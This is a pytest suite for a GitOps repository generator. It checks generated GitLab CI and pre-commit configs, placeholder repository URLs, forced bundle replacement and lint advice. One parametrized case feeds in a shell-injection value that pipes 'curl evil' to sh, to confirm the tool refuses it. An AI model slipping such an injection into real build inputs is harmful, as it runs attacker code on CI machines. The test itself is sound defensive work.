"""Issue 15, "Everyday use": a generated repository's CI and pre-commit run as generated; init
says when the repository URL is a placeholder and lint follows a later change of it; new-app
--force replaces a whole bundle; advice never leads to another rule's error.

The pre-commit tests run the real pre-commit on a generated repository: once against a tagged
clone of this project's committed HEAD (pre-commit builds a venv and pip-installs the clone, its
dependencies from PyPI), once with the local hook and the test venv's gitops-kit on PATH."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from served_charts import ARGO_INSTALL, RAW, argo_install_routes, serve_files
from helpers import PROJECT
from generate_helpers import CHART, findings, run, snapshot
from gitops_kit import yamlio

TAG = "v0.0.1-test"
REPO_URL = "https://git.acme.io/ops/cluster.git"
VENV_BIN = str(Path(sys.executable).parent)
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def _git(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com"}
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, env=env, check=True, timeout=120)


def _ci(root: Path) -> dict:
    return yamlio.plain(yamlio.load_text((root / ".gitlab-ci.yml").read_text()).documents[0].data, str_keys=True)


@pytest.fixture(scope="module")
def mirror(tmp_path_factory) -> Path:
    """A tagged clone of this project's committed HEAD: where --tool-source points."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    dest = tmp_path_factory.mktemp("mirror") / "gitops-kit"
    _git(PROJECT, "clone", "-q", str(PROJECT), str(dest))
    _git(dest, "tag", TAG)
    return dest


@pytest.fixture(scope="module")
def pre_commit_home(tmp_path_factory) -> Path:
    """One pre-commit cache for the module: the hook venv is built once."""
    pytest.importorskip("pre_commit")
    return tmp_path_factory.mktemp("pc-home")


def _init_git(tmp_path: Path, capsys, *args: str) -> Path:
    root = tmp_path / "gitops"
    code, out, err = run(capsys, "init", root, "--repo-url", REPO_URL, *args)
    assert code == 0, out + err
    _git(root, "init", "-q")
    _git(root, "add", "-A")
    return root


def _pre_commit(root: Path, home: Path, *args: str, path: str | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PRE_COMMIT_HOME": str(home), "PATH": path or os.environ.get("PATH", "")}
    env.pop("CI", None)
    return subprocess.run([sys.executable, "-m", "pre_commit", "run", "--all-files", "--color", "never", *args],
                          cwd=root, capture_output=True, text=True, env=env, timeout=600)


BAD_APP = """\
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: bad
  namespace: argocd-system
spec:
  project: default
  destination: {server: https://kubernetes.default.svc, namespace: bad}
  sources:
    - repoURL: https://git.acme.io/ops/cluster.git
      targetRevision: master
      path: apps/manifests/argocd
  syncPolicy:
    automated: {prune: true, selfHeal: false}
"""


# --- item 2: CI and pre-commit run as generated --------------------------------------------------

@needs_git
def test_pre_commit_with_tool_source_runs_the_hook_of_that_tag(tmp_path, capsys, mirror, pre_commit_home):
    root = _init_git(tmp_path, capsys, "--tool-source", f"git+file://{mirror}@{TAG}")
    config = yamlio.plain(yamlio.load_text((root / ".pre-commit-config.yaml").read_text()).documents[0].data)
    assert config["repos"] == [{"repo": f"file://{mirror}", "rev": TAG, "hooks": [{"id": "gitops-kit-lint"}]}]
    clean = _pre_commit(root, pre_commit_home)
    assert clean.returncode == 0, clean.stdout + clean.stderr
    assert "gitops-kit lint" in clean.stdout and "Passed" in clean.stdout
    (root / "argo/apps/bad-app.yaml").write_text(BAD_APP)
    _git(root, "add", "-A")
    bad = _pre_commit(root, pre_commit_home)
    assert bad.returncode == 1 and "[automated-sync]" in bad.stdout, bad.stdout + bad.stderr


@needs_git
def test_pre_commit_without_tool_source_runs_gitops_kit_from_path(tmp_path, capsys, pre_commit_home):
    root = _init_git(tmp_path, capsys)
    hook = yamlio.plain(yamlio.load_text((root / ".pre-commit-config.yaml").read_text()).documents[0].data)["repos"][0]
    assert hook["repo"] == "local" and hook["hooks"][0]["language"] == "system"
    path = VENV_BIN + os.pathsep + os.environ.get("PATH", "")
    result = _pre_commit(root, pre_commit_home, "--verbose", path=path)
    assert result.returncode == 0, result.stdout + result.stderr
    # Lint ran and reports the CI placeholder (a warning: the commit passes).
    assert "warning [layout] GITOPS_KIT_SOURCE is a placeholder" in result.stdout
    (root / "argo/apps/bad-app.yaml").write_text(BAD_APP)
    _git(root, "add", "-A")
    bad = _pre_commit(root, pre_commit_home, path=path)
    assert bad.returncode == 1 and "[automated-sync]" in bad.stdout, bad.stdout + bad.stderr


@needs_git
def test_ci_lint_job_runs_as_generated(tmp_path, capsys, mirror):
    root = _init_git(tmp_path, capsys, "--tool-source", f"git+file://{mirror}@{TAG}")
    ci = _ci(root)
    source = ci["variables"]["GITOPS_KIT_SOURCE"]
    assert source == f"git+file://{mirror}@{TAG}"
    script = ci["gitops-kit-lint"]["script"]
    install = [line for line in script if line.startswith("pip install")]
    assert install == ['pip install --quiet "$GITOPS_KIT_SOURCE" "helm-python-sdk>=0.2.2,<0.3"']
    env = {**os.environ, "GITOPS_KIT_SOURCE": source, "PATH": VENV_BIN + os.pathsep + os.environ.get("PATH", "")}
    env.pop("CI", None)
    # The install step as written, but into a download folder and without the Helm SDK (a public
    # package; this venv has it, see below): the tag resolves to this project.
    dest = tmp_path / "dl"
    download = install[0].replace("pip install", f"{sys.executable} -m pip download --no-deps --dest {dest}", 1)
    download = download.replace(' "helm-python-sdk>=0.2.2,<0.3"', "")
    got = subprocess.run(["sh", "-c", download], cwd=root, env=env, capture_output=True, text=True, timeout=300)
    assert got.returncode == 0, got.stderr
    assert [p.name for p in dest.iterdir()] == ["gitops-kit-0.1.0.zip"]
    # The rest of the job with this venv's gitops-kit on PATH, but the kustomize download (the
    # network and /usr/local/bin; tests/test_generate_init.py runs its checksum step): charts
    # pull (nothing to pull here), then lint --render.
    rest = [line for line in script if line not in install and "kustomize" not in line]
    assert len(rest) == len(script) - 4
    # charts pull also downloads ArgoCD's pinned install.yaml: here from ../shared's copy, served on
    # 127.0.0.1 through a mirror of raw.githubusercontent.com (the job itself has the network).
    if not ARGO_INSTALL.is_dir():
        pytest.skip("../shared/upstream/argo-cd/install is absent")
    env["XDG_CACHE_HOME"] = str(tmp_path / "cache")
    for key in [k for k in env if "proxy" in k.lower()]:
        env.pop(key)
    with serve_files(dict(argo_install_routes())) as files:
        cfg = root / ".gitops-kit.yaml"
        cfg.write_text(cfg.read_text() + f'\ncharts:\n  mirrors:\n    "{RAW}": "{files.url}/raw"\n')
        job = subprocess.run(["sh", "-c", "set -e\n" + "\n".join(rest)], cwd=root, env=env, capture_output=True,
                             text=True, timeout=300)
    assert job.returncode == 0, job.stdout + job.stderr
    assert "0 charts: 0 downloaded, 0 cached, 0 failed; 1 remote resource: 1 downloaded" in job.stdout
    # Everything rendered, ArgoCD's install.yaml included: nothing to report.
    assert json.loads((root / "gl-code-quality-report.json").read_text()) == []
    assert "python:3.12" == ci["gitops-kit-lint"]["image"]  # -slim has no git, which pip needs here


def test_ci_placeholder_is_reported_by_lint_and_refused_by_pip(tmp_path, capsys):
    root = tmp_path / "gitops"
    code, out, _ = run(capsys, "init", root)
    assert code == 0
    assert "placeholder: --tool-source not given" in out
    ci = _ci(root)
    assert "pypi" not in (root / ".gitlab-ci.yml").read_text()  # no public-index lookup, not even Renovate's
    line = next(n for n, text in enumerate((root / ".gitlab-ci.yml").read_text().split("\n"), 1)
                if text.startswith("  GITOPS_KIT_SOURCE:"))
    assert findings(root) == [f".gitlab-ci.yml:{line}: warning [layout] GITOPS_KIT_SOURCE is a placeholder: CI cannot "
                              "install gitops-kit. Set it to a tag of gitops-kit's git repository "
                              '("git+https://HOST/GROUP/gitops-kit.git@vX.Y.Z") or a version on your internal index '
                              "with PIP_INDEX_URL (gitops-kit init --tool-source)"]
    env = {**os.environ, "GITOPS_KIT_SOURCE": ci["variables"]["GITOPS_KIT_SOURCE"], "PIP_NO_INDEX": "1"}
    install = ci["gitops-kit-lint"]["script"][0].replace(
        "pip install", f"{sys.executable} -m pip download --no-deps --dest {tmp_path / 'dl'}", 1)
    got = subprocess.run(["sh", "-c", install], env=env, capture_output=True, text=True, timeout=120)
    assert got.returncode != 0 and "Invalid requirement" in got.stderr


def test_tool_source_from_an_internal_index(tmp_path, capsys):
    root = tmp_path / "gitops"
    code, out, err = run(capsys, "init", root, "--tool-source",
                         "gitops-kit==0.1.0 --index-url https://pypi.internal.example/simple")
    assert code == 0, out + err
    ci = _ci(root)
    assert ci["variables"] == {"GITOPS_KIT_SOURCE": "gitops-kit==0.1.0",
                               "PIP_INDEX_URL": "https://pypi.internal.example/simple"}
    hook = yamlio.plain(yamlio.load_text((root / ".pre-commit-config.yaml").read_text()).documents[0].data)["repos"][0]
    assert hook["repo"] == "local"
    assert findings(root) == []


@pytest.mark.parametrize("spec", ["gitops-kit==0.1.0", "git+https://host/gitops-kit.git",
                                  'git+https://host/x.git@v1"; curl evil|sh #', "git+https://host/x.git@v1 #c"])
def test_tool_source_without_a_pinned_private_origin_is_refused(tmp_path, capsys, spec):
    code, _, err = run(capsys, "init", tmp_path / "never", "--tool-source", spec)
    assert code == 2 and "--tool-source" in err
    assert not (tmp_path / "never").exists()


# --- item 14: the repository URL ----------------------------------------------------------------

def test_init_without_repo_url_says_the_url_is_a_placeholder(tmp_path, capsys):
    code, out, _ = run(capsys, "init", tmp_path / "a")
    assert code == 0
    assert ("placeholder: --repo-url not given: every Application points at the placeholder "
            "https://gitlab.example.com/platform/gitops.git") in out
    assert "The URL is a PLACEHOLDER" in (tmp_path / "a/.gitops-kit.yaml").read_text()
    code, out, _ = run(capsys, "init", tmp_path / "b", "--repo-url", REPO_URL)
    assert code == 0 and "--repo-url not given" not in out
    assert "PLACEHOLDER" not in (tmp_path / "b/.gitops-kit.yaml").read_text()


def test_a_changed_repo_url_is_reported_on_every_source_and_fixed(repo, capsys):
    config = repo / ".gitops-kit.yaml"
    config.write_text(config.read_text().replace("https://gitlab.example.com/platform/gitops.git", REPO_URL))
    root_before = (repo / "argo/root-apps.yaml").read_text()
    found = findings(repo)
    assert len(found) == 4, found  # the three roots and the argocd child: one per source
    assert all("[layout]" in f and f'not repo.url "{REPO_URL}"' in f for f in found), found
    assert not any("no source path" in f for f in found)
    code, out, err = run(capsys, "lint", repo, "--fix")
    assert code == 0, out + err
    assert findings(repo) == []
    assert (repo / "argo/root-apps.yaml").read_text() == root_before.replace(
        "https://gitlab.example.com/platform/gitops.git", REPO_URL)  # comments and layout kept


def test_a_source_at_another_revision_is_reported_and_fixed(repo, capsys):
    app = repo / "argo/bootstrap/argocd-app.yaml"
    app.write_text(app.read_text().replace("targetRevision: master", "targetRevision: release-1"))
    found = findings(repo)
    assert len(found) == 1 and 'at revision "release-1", not repo.branch "master"' in found[0], found
    assert run(capsys, "lint", repo, "--fix")[0] == 0
    assert "targetRevision: master" in app.read_text() and findings(repo) == []


# --- item 4: new-app --force replaces the whole bundle ------------------------------------------

def _app(capsys, repo: Path, pattern: str, *extra: str) -> tuple[int, str, str]:
    return run(capsys, "new-app", "wiki", "--layer", "apps", "--pattern", pattern, "--repo", repo, "--no-input",
               *CHART, "--secret", "db_password", *extra)


def test_force_with_another_pattern_replaces_the_whole_bundle(repo, capsys):
    assert _app(capsys, repo, "kustomize")[0] == 0
    code, out, err = _app(capsys, repo, "umbrella-avp", "--force")
    assert code == 0, out + err
    assert "- apps/helm/wiki/kustomization.yaml (deleted: not part of the umbrella-avp pattern)" in out
    assert not (repo / "apps/helm/wiki/kustomization.yaml").exists()
    assert (repo / "apps/helm/wiki/Chart.yaml").is_file()
    assert findings(repo) == []
    # And back: the umbrella chart's Chart.yaml goes, the kustomization returns.
    code, out, _ = _app(capsys, repo, "kustomize", "--force")
    assert code == 0 and "- apps/helm/wiki/Chart.yaml (deleted" in out
    assert sorted(p.name for p in (repo / "apps/helm/wiki").iterdir()) == ["kustomization.yaml", "values.yaml"]
    assert findings(repo) == []


def test_force_dry_run_lists_the_deletions_and_writes_nothing(repo, capsys):
    assert _app(capsys, repo, "kustomize")[0] == 0
    before = snapshot(repo)
    code, out, _ = _app(capsys, repo, "umbrella-avp", "--force", "--dry-run")
    assert code == 0 and "and delete 1" in out and "- apps/helm/wiki/kustomization.yaml (deleted" in out
    assert snapshot(repo) == before


def test_force_is_all_or_nothing_deletions_included(repo, capsys, monkeypatch):
    from gitops_kit.generate import writer

    assert _app(capsys, repo, "kustomize")[0] == 0
    before = snapshot(repo)
    real = writer.write_file

    def failing(target, data, mode):
        if target.name == ".gitops-kit.yaml":  # the config edit comes after the deletions
            raise writer.WriteError(f"cannot write {target}: No space left on device")
        real(target, data, mode)

    monkeypatch.setattr(writer, "write_file", failing)
    code, _, err = _app(capsys, repo, "umbrella-avp", "--force", "--tier", "control")
    assert code == 2 and "nothing was written" in err
    assert snapshot(repo) == before


def test_force_keeps_your_manifests_and_lints_the_whole_bundle(repo, capsys):
    assert _app(capsys, repo, "kustomize")[0] == 0
    extra = repo / "apps/manifests/wiki/ingress.yaml"
    extra.write_text("kind: [unclosed\n")
    code, out, _ = _app(capsys, repo, "umbrella-avp", "--force")
    assert extra.is_file()
    assert code == 1 and "apps/manifests/wiki/ingress.yaml:" in out and "[yaml-syntax]" in out


# --- item 5: advice that the rules accept -------------------------------------------------------

_SUPPRESSION = re.compile(r'# gitops-kit: disable=automated-sync reason="[^"]+"')


def _prune_off_as_advised(repo: Path, comment: str) -> list[str]:
    app = repo / "argo/bootstrap/argocd-app.yaml"
    text = app.read_text()
    indent = re.search(r"\n( *)prune: true", text).group(1)
    app.write_text(text.replace(f"{indent}prune: true", f"{indent}{comment}\n{indent}prune: false"))
    return findings(repo)


def test_check_update_prune_advice_is_a_suppression_automated_sync_accepts(repo):
    from gitops_kit.update import STATEFUL_CHECKLIST

    advice = next(item for item in STATEFUL_CHECKLIST if "prune" in item)
    comment = _SUPPRESSION.search(advice)
    assert comment, advice
    assert _prune_off_as_advised(repo, comment.group(0)) == []


def test_kustomize_blueprint_prune_advice_is_a_suppression_automated_sync_accepts(repo, capsys):
    assert _app(capsys, repo, "kustomize")[0] == 0
    # A suppression directive in a YAML comment would be live (and suppress nothing): the
    # kustomization points at the README, which has the lines.
    kustomization = (repo / "apps/helm/wiki/kustomization.yaml").read_text()
    assert "set prune: false" not in kustomization and '"First cutover of a stateful app"' in kustomization
    readme = (repo / "README.md").read_text()
    assert "### First cutover of a stateful app" in readme
    comment = _SUPPRESSION.search(readme)
    assert comment
    assert _prune_off_as_advised(repo, comment.group(0)) == []


def test_plaintext_secret_advice_depends_on_where_the_file_is(repo, capsys):
    assert _app(capsys, repo, "umbrella-avp")[0] == 0
    secret = ("apiVersion: v1\nkind: Secret\nmetadata:\n  name: wiki-db\n  namespace: wiki\n"
              "stringData:\n  password: hunter2hunter2\n")
    (repo / "apps/manifests/wiki/db-secret.yaml").write_text(secret)
    values = repo / "apps/helm/wiki/values.yaml"
    original = values.read_text()
    values.write_text(original + "smtpPassword: hunter2hunter2\n")
    found = {f.split(":")[0]: f for f in findings(repo) if "[plaintext-secret]" in f}
    assert set(found) == {"apps/manifests/wiki/db-secret.yaml", "apps/helm/wiki/values.yaml"}
    manifests = found["apps/manifests/wiki/db-secret.yaml"]
    assert "Vault <path:...> placeholder" not in manifests.split(";")[0]
    assert "apps/manifests/ is not rendered by argocd-vault-plugin" in manifests
    assert "apps/helm/<app>/templates/" in manifests
    # Where avp-helm renders (the umbrella chart's values), the placeholder is the advice ...
    assert "use a Vault <path:...> placeholder" in found["apps/helm/wiki/values.yaml"]
    # ... and following it there is clean for both rules.
    (repo / "apps/manifests/wiki/db-secret.yaml").unlink()
    values.write_text(original + "smtpPassword: <path:kv/data/argocd/apps/helm/wiki#smtp_password>\n")
    assert findings(repo) == []
